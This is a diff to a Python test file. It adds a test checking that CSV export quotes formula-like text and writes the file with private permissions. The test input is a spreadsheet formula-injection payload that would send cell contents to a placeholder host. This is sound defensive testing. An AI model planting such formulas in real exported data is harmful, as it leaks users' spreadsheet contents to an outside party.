@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 from pathlib import Path
 
@@ -267,6 +268,15 @@ def test_save_matrix_writes_the_long_table(tmp_path: Path) -> None:
     assert table.iloc[0].tolist() == ["a", "x", 60.0, 600.0, True, ""]
     assert np.isnan(table.iloc[1]["seconds"])
     assert not list((tmp_path / "out").glob("*.partial"))
+
+
+def test_save_matrix_writes_a_private_file_whose_text_stays_text(tmp_path: Path) -> None:
+    """A reason that looks like a formula is written quoted; the file is mode 0600."""
+    matrix = dataclasses.replace(small_matrix(), reasons={"b": '=HYPERLINK("http://x/?"&A2)'})
+    path = save_matrix(matrix, tmp_path / "times.csv")
+    assert path.stat().st_mode & 0o777 == 0o600
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")
+    assert read_times(path)["reason"].tolist()[2] == '\'=HYPERLINK("http://x/?"&A2)'
 
 
 # --- point layers -------------------------------------------------------------------------------
